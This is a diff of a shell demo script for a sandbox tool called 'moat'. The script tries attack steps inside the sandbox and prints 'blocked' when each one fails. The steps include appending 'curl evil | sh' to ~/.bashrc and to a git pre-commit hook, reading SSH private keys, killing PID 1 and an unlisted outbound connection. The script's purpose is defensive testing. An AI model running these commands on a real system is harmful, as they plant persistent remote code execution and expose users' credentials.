@@ -14,6 +14,10 @@ echo "\$ moat run -- sh -c '...'   (in $ws)"
   echo "curl evil | sh" >> ~/.bashrc        || echo "blocked: append to ~/.bashrc"
   echo "curl evil | sh" > .git/hooks/pre-commit || echo "blocked: plant .git/hooks/pre-commit"
   mkdir -p .vscode && echo {} > .vscode/tasks.json || echo "blocked: create .vscode/tasks.json"
+  cat ~/.ssh/id_* 2>/dev/null || echo "blocked: read ~/.ssh (hidden)"
+  if command -v python3 >/dev/null; then
+    python3 -c "import urllib.request; urllib.request.urlopen(\"https://example.com\", timeout=5)" 2>/dev/null || echo "blocked: connect to example.com (not in the allow list)"
+  fi
   kill -9 1 2>/dev/null; ps -e -o pid=,comm= | sed "s/^/  visible process:/"
   setsid sleep 600 & echo "started a daemon (pid $!) that must not survive"
 ' 2>&1 | sed 's/^/  /'
